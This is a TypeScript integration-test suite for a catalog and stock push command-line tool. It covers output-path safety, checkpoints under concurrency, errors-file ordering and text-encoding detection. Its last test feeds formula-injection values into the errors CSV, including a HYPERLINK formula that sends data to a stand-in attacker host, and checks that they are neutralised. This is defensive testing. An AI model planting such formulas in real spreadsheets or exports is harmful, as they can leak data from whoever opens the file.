// What a push does with the files around it, run as real processes against the sandbox: outputs that
// would overwrite the input or cannot be written, the input's encoding, checkpoints under concurrency
// and the errors file's contents.
import { chmodSync, linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCli, sentProductIds, startProxiedSandbox, type CliResult, type ProxiedSandbox } from './helpers.ts';

let service: ProxiedSandbox;
let dir: string;
let env: Record<string, string>;

async function cli(args: string[], options: Parameters<typeof runCli>[1] = {}): Promise<CliResult> {
  return runCli(args, { env, ...options });
}

beforeAll(async () => {
  service = await startProxiedSandbox();
  dir = mkdtempSync(join(tmpdir(), 'cli-files-'));
  env = { INTEGRATION_API_KEY: service.sandbox.keys.full, INTEGRATION_BASE_URL: service.baseUrl };
});

afterAll(async () => {
  await service.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('outputs that are the input or cannot be written', () => {
  test('an errors or checkpoint path that is the input (same path, symlink, hard link) is refused, with and without --dry-run; the input survives', async () => {
    const file = join(dir, 'precious.csv');
    const content = 'external_id,name,price\nP-1,p,1\nP-1,again,2\n';
    writeFileSync(file, content);
    symlinkSync(file, join(dir, 'link.csv'));
    linkSync(file, join(dir, 'hard.csv'));
    const before = service.requests.length;
    for (const errors of [file, join(dir, 'link.csv'), join(dir, 'hard.csv'), `${dir}/./precious.csv`]) {
      for (const extra of [[], ['--dry-run']]) {
        const result = await cli(['catalog', 'push', file, '--errors', errors, ...extra]);
        expect(result.code, `${errors} ${extra.join(' ')}`).toBe(2);
        expect(result.stderr.trim().split('\n')).toEqual([expect.stringMatching(/is the input file itself .*pass another --errors path/)]);
        expect(readFileSync(file, 'utf8')).toBe(content);
      }
    }
    // The checkpoint beside the input, a hard link to it.
    linkSync(file, `${file}.checkpoint.json`);
    const checkpoint = await cli(['catalog', 'push', file]);
    expect(checkpoint.code).toBe(2);
    expect(checkpoint.stderr).toMatch(/checkpoint would overwrite it/);
    rmSync(`${file}.checkpoint.json`);
    const twice = await cli(['catalog', 'push', file, '--errors', `${file}.checkpoint.json`]);
    expect(twice.code).toBe(2);
    expect(twice.stderr).toMatch(/both the errors file and the checkpoint/);
    expect(readFileSync(file, 'utf8')).toBe(content);
    expect(service.requests.length).toBe(before);
  });

  test('--errors in a missing directory, under a file, or on a directory: exit 2 before the first batch, one sentence', async () => {
    const file = join(dir, 'fine.csv');
    writeFileSync(file, 'external_id,name,price\nM-1,m,1\nM-1,again,2\n');
    mkdirSync(join(dir, 'a-directory'));
    const before = service.requests.length;
    for (const [errors, message] of [
      [join(dir, 'missing', 'errors.csv'), /directory .*missing does not exist/],
      [join(file, 'errors.csv'), /fine\.csv is not a directory/],
      [join(dir, 'a-directory'), /it is a directory/],
    ] as const) {
      for (const extra of [[], ['--dry-run']]) {
        const result = await cli(['catalog', 'push', file, '--errors', errors, ...extra]);
        expect(result.code, errors).toBe(2);
        expect(result.stderr.trim().split('\n'), errors).toEqual([expect.stringMatching(message)]);
      }
    }
    expect(service.requests.length).toBe(before);
    expect(service.sandbox.getProduct('M-1')).toBeUndefined();
  });

  test.skipIf(process.getuid?.() === 0)('an input in a read-only directory (no room for the checkpoint): exit 2, nothing sent', async () => {
    const locked = join(dir, 'locked');
    mkdirSync(locked);
    const file = join(locked, 'x.csv');
    writeFileSync(file, 'external_id,name,price\nL-1,l,1\n');
    chmodSync(locked, 0o555);
    const before = service.requests.length;
    const result = await cli(['catalog', 'push', file, '--errors', join(dir, 'locked-errors.csv')]);
    chmodSync(locked, 0o755);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/Cannot write the checkpoint .*not writable/);
    expect(service.requests.length).toBe(before);
  });
});


describe('checkpoints under --concurrency', () => {
  test('a push of 12,000 items at --concurrency 4 completes (every acknowledgement writes the checkpoint, none collide)', async () => {
    const file = join(dir, 'wide.csv');
    writeFileSync(file, `external_id,name,price\n${Array.from({ length: 12_000 }, (_, i) => `C-${i},c,1`).join('\n')}\n`);
    const result = await cli(['catalog', 'push', file, '--concurrency', '4']);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/12000\/12000 items, created 12000/);
    expect(service.sandbox.getProduct('C-11999')).toBeDefined();
    expect(existsSync(`${file}.checkpoint.json`)).toBe(false);
  }, 60_000);

  test('batches acknowledged out of order: the checkpoint holds only the prefix every batch of which was acknowledged, with its counts; --resume sends the rest once', async () => {
    const file = join(dir, 'order.csv');
    const ids = Array.from({ length: 3000 }, (_, i) => `O-${i}`);
    writeFileSync(file, `external_id,name,price\n${ids.map((id) => `${id},o,1`).join('\n')}\n`);
    const first = service.requests.length;
    let release = () => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    // The second and third batches are answered at once; the first, and the fourth and fifth that
    // take the freed slots, only after the Ctrl-C. The sixth then never leaves.
    service.gate = (request) => (request.body.includes('"O-500"') || request.body.includes('"O-1000"') ? undefined : held);
    const answeredBefore = service.answered;
    const checkpoints: string[] = [];
    const interrupted = await cli(['catalog', 'push', file, '--concurrency', '3', '--json'], {
      onStart: (child) => {
        const timer = setInterval(() => {
          if (service.answered - answeredBefore < 2) return;
          clearInterval(timer);
          // Batches 2 and 3 are acknowledged, batch 1 is not: nothing may be checkpointed yet.
          setTimeout(() => {
            checkpoints.push(existsSync(`${file}.checkpoint.json`) ? readFileSync(`${file}.checkpoint.json`, 'utf8') : 'none');
            child.kill('SIGINT');
            setTimeout(release, 100);
          }, 300);
        }, 5);
      },
    });
    service.gate = undefined;
    expect(checkpoints).toEqual(['none']);
    expect(interrupted.code).toBe(130);
    expect(sentProductIds(service.requests.slice(first))).toHaveLength(2500);
    expect(JSON.parse(readFileSync(`${file}.checkpoint.json`, 'utf8'))).toMatchObject({ records: 2500, nextLine: 2502, summary: { created: 2500, updated: 0, errors: 0 } });
    const second = service.requests.length;
    const resumed = await cli(['catalog', 'push', file, '--resume', '--concurrency', '3', '--json']);
    expect(resumed.code).toBe(0);
    expect(sentProductIds(service.requests.slice(second))).toEqual(ids.slice(2500));
    expect(JSON.parse(resumed.stdout.trim().split('\n').at(-1)!)).toMatchObject({ event: 'done', complete: true, created: 3000 });
  }, 60_000);
});

describe('the errors file', () => {
  test('is in input line order: local and service rejections merged, batches answered out of order at --concurrency 2', async () => {
    const file = join(dir, 'mixed.jsonl');
    const lines = Array.from({ length: 600 }, (_, i) => JSON.stringify({ external_id: `X-${i}`, name: 'x', price: 1 }));
    lines[0] = '{"external_id":"X-new-without-name"}'; // rejected by the service: a new product needs a name
    lines[2] = lines[1]!; // a repeat: rejected locally
    lines[519] = '{"external_id":"X-late-without-name"}';
    lines[549] = lines[548]!;
    writeFileSync(file, `${lines.join('\n')}\n`);
    let release = () => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    const answered = service.answered;
    service.gate = (request) => (request.body.includes('X-new-without-name') ? held : undefined);
    const timer = setInterval(() => {
      if (service.answered > answered) {
        clearInterval(timer);
        release();
      }
    }, 5);
    const result = await cli(['catalog', 'push', file, '--concurrency', '2']);
    service.gate = undefined;
    expect(result.code).toBe(1);
    const rows = readFileSync(`${file}.errors.csv`, 'utf8').trim().split('\n').slice(1);
    expect(rows.map((row) => Number(row.split(',')[0]))).toEqual([1, 3, 520, 550]);
    expect(rows[0]).toMatch(/^1,X-new-without-name,,VALIDATION_ERROR,/);
    expect(rows[1]).toMatch(/^3,X-1,,VALIDATION_ERROR,external_id repeated in the file \(first at line 2\)/);
  }, 30_000);
});

describe('text encodings', () => {
  const latin1 = (text: string) => Buffer.from(text, 'latin1');

  test('invalid UTF-8 (a Latin-1 export) in JSON Lines or a JSON array: exit 2 naming the line, nothing sent', async () => {
    const cases: Array<[string, Buffer, number]> = [
      ['l1.jsonl', Buffer.concat([Buffer.from('{"external_id":"L-3","name":"a","price":1}\n\n'), latin1('{"external_id":"L-4","name":"Feijão","price":1}\n')]), 3],
      ['l1.json', Buffer.concat([Buffer.from('[\n{"external_id":"L-5","name":"a","price":1},\n'), latin1('{"external_id":"L-6","name":"Açúcar","price":1}\n]')]), 3],
      // A multi-byte character cut off by the end of the file.
      ['cut.jsonl', Buffer.concat([Buffer.from('{"external_id":"L-7","name":"a","price":1}\n'), Buffer.from('ã').subarray(0, 1)]), 2],
    ];
    const before = service.requests.length;
    for (const [name, bytes, line] of cases) {
      const file = join(dir, name);
      writeFileSync(file, bytes);
      for (const extra of [[], ['--dry-run']]) {
        const result = await cli(['catalog', 'push', file, ...extra]);
        expect(result.code, name).toBe(2);
        expect(result.stderr.trim().split('\n'), name).toEqual([expect.stringMatching(new RegExp(`^Line ${line}: the file is not valid UTF-8.*--encoding`))]);
      }
    }
    expect(service.requests.length).toBe(before);
    expect(service.sandbox.getProduct('L-1')).toBeUndefined();
  });

  test('a CSV that is not UTF-8 and holds no UTF-8 character, given without --encoding: read as windows-1252 (Excel’s "CSV (separado por vírgulas)"), saying so in one line, with and without --state', async () => {
    // "–" is 0x96 in windows-1252, a byte Latin-1 leaves to a control character.
    const ansi = (prefix: string) => Buffer.concat([latin1(`external_id,name,price\r\n${prefix}-1,Arroz,1\r\n${prefix}-2,Feijão `), Buffer.from([0x96]), latin1(' 1kg,2\r\n')]);
    const plain = join(dir, 'ansi-plain.csv');
    writeFileSync(plain, ansi('W'));
    const note = (file: string) => `${file} is not UTF-8 (line 3 is the first that is not): reading it as windows-1252, what Excel saves as "CSV (separado por vírgulas)"; if it was saved in another encoding, name it with --encoding (such as latin1, iso-8859-15 or ibm850).`;
    for (const extra of [['--dry-run'], []]) {
      const result = await cli(['catalog', 'push', plain, ...extra]);
      expect(result.stderr.trim().split('\n')).toEqual([note(plain)]);
      expect(result.code).toBe(0);
    }
    expect(service.sandbox.getProduct('W-2')).toMatchObject({ name: 'Feijão – 1kg' });

    const synced = join(dir, 'ansi-sync.csv');
    writeFileSync(synced, ansi('Y'));
    const state = await cli(['catalog', 'push', synced, '--state', join(dir, 'ansi-sync.db')]);
    expect(state.stderr.trim().split('\n')[0]).toBe(note(synced)); // then the sync's progress lines
    expect(state.code).toBe(0);
    expect(service.sandbox.getProduct('Y-2')).toMatchObject({ name: 'Feijão – 1kg' });
  });

  test('a CSV that mixes UTF-8 characters and other bytes, or one given as --encoding utf-8: exit 2 naming the line, nothing sent', async () => {
    const mixed = join(dir, 'mixed.csv');
    writeFileSync(mixed, Buffer.concat([Buffer.from('external_id,name,price\nM-1,Açúcar,1\n'), latin1('M-2,Feijão,2\n')]));
    const named = join(dir, 'named-utf8.csv');
    writeFileSync(named, latin1('external_id,name,price\nN-1,Feijão,2\n'));
    const before = service.requests.length;
    const refused = await cli(['catalog', 'push', mixed]);
    expect(refused.code).toBe(2);
    expect(refused.stderr.trim().split('\n')).toEqual([
      'Line 3: the file is not valid UTF-8, and elsewhere it holds UTF-8 characters: it mixes two encodings, so it is not read as windows-1252 either; save it as UTF-8, or name its encoding with --encoding latin1 (nothing was sent).',
    ]);
    const utf8 = await cli(['catalog', 'push', named, '--encoding', 'utf-8']);
    expect(utf8.code).toBe(2);
    expect(utf8.stderr).toMatch(/^Line 2: the file is not valid UTF-8 \(saved in another encoding/);
    expect(service.requests.length).toBe(before);
  });

  test('the line of an invalid byte past the first read, and valid characters split between reads, in a 3 MB file', async () => {
    const rows = Array.from({ length: 40_000 }, (_, i) => `{"external_id":"B-${i}","name":"x${'ã€😀'.repeat(i % 9)}","price":1}`);
    const file = join(dir, 'big-utf8.jsonl');
    writeFileSync(file, `${rows.join('\n')}\n`);
    expect((await cli(['catalog', 'push', file, '--dry-run'])).code).toBe(0);
    writeFileSync(file, Buffer.concat([Buffer.from(`${rows.slice(0, 31_234).join('\n')}\n`), latin1('{"external_id":"B-x","name":"é","price":1}\n'), Buffer.from(rows.slice(31_235).join('\n'))]));
    const bad = await cli(['catalog', 'push', file, '--dry-run']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/^Line 31235: the file is not valid UTF-8/);
  }, 30_000);

  test('--encoding latin1 or windows-1252 reads such a file; an unknown label is exit 2', async () => {
    const csv = join(dir, 'ansi.csv');
    writeFileSync(csv, latin1(`external_id,name,price\r\nE-1,Feijão,2\r\nE-2,Açúcar,3\r\n`));
    const result = await cli(['catalog', 'push', csv, '--encoding', 'latin1']);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(service.sandbox.getProduct('E-1')).toMatchObject({ name: 'Feijão' });
    expect(service.sandbox.getProduct('E-2')).toMatchObject({ name: 'Açúcar' });
    const jsonl = join(dir, 'ansi.jsonl');
    writeFileSync(jsonl, Buffer.concat([latin1('{"external_id":"E-3","name":"Caf'), Buffer.from([0xe9, 0x20, 0x80]), latin1('","price":1}\n')]));
    expect((await cli(['catalog', 'push', jsonl, '--encoding', 'windows-1252'])).code).toBe(0);
    expect(service.sandbox.getProduct('E-3')).toMatchObject({ name: 'Café €' });
    const unknown = await cli(['catalog', 'push', jsonl, '--encoding', 'klingon']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/^--encoding "klingon" is not an encoding/);
  });

  test('JSON Lines and a JSON array holding a raw U+2028 or U+2029 inside a string are valid JSON: accepted, sent as written', async () => {
    const name = 'line\u2028separator\u2029paragraph';
    const jsonl = join(dir, 'separators.jsonl');
    writeFileSync(jsonl, `{"external_id":"S-1","name":"${name}","price":1}\n{"external_id":"S-2","name":"b","price":1}\n{"external_id":"S-1","name":"again","price":1}\n`);
    const result = await cli(['catalog', 'push', jsonl]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(1); // the repeat on line 3, counted on physical lines
    expect(readFileSync(`${jsonl}.errors.csv`, 'utf8')).toMatch(/\n3,S-1,,VALIDATION_ERROR,.*first at line 1/);
    expect(service.sandbox.getProduct('S-1')).toMatchObject({ name });
    const array = join(dir, 'separators.json');
    writeFileSync(array, `[\n{"external_id":"S-3","name":"${name}","price":1}\n]`);
    expect((await cli(['catalog', 'push', array])).code).toBe(0);
    expect(service.sandbox.getProduct('S-3')).toMatchObject({ name });
  });
});

test('errors-file cells starting with =, +, -, @, tab or CR are neutralised (a leading quote, the cell quoted), ids and messages alike', async () => {
  const store = '7c9e6679-7425-40de-944b-e07fc1f90ae7';
  const ids = ['=1+2', '@SUM(A1)', '-5', '+cmd', 'tab\tinside', 'plain;=1+1'];
  const file = join(dir, 'formulas.csv');
  writeFileSync(file, `external_id,store_id,stock_quantity\n${ids.map((id) => `"${id}",${store},1`).join('\n')}\n"=1+2",${store},2\n`);
  // Every id is unknown to the service; its messages are made hostile on the way back.
  const hostile = ['=HYPERLINK("http://evil.example/?leak","open")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
  service.rewrite = (_request, answer) => {
    const body = JSON.parse(answer) as { results?: Array<{ error?: { message: string } }> };
    body.results?.forEach((result, i) => {
      if (result.error) result.error.message = hostile[i % hostile.length]!;
    });
    return JSON.stringify(body);
  };
  const result = await cli(['stock', 'push', file]);
  service.rewrite = undefined;
  expect(result.code).toBe(1);
  const text = readFileSync(`${file}.errors.csv`, 'utf8');
  const { parse } = await import('csv-parse/sync');
  const rows = parse(text, { from_line: 2 }) as string[][];
  expect(rows).toHaveLength(7);
  for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  expect(rows[0]).toEqual(['2', "'=1+2", store, 'PRODUCT_NOT_FOUND', `'=HYPERLINK("http://evil.example/?leak","open")`]);
  expect(rows.map((row) => row[4]).slice(0, 6)).toEqual(hostile.map((message) => `'${message}`));
  expect(rows[6]).toEqual(['8', "'=1+2", store, 'VALIDATION_ERROR', expect.stringMatching(/^external_id and store_id repeated/)]);
  expect(text).toContain(`\n3,"'@SUM(A1)",${store},`);
  expect(text).toContain('\n7,plain;=1+1,');
});
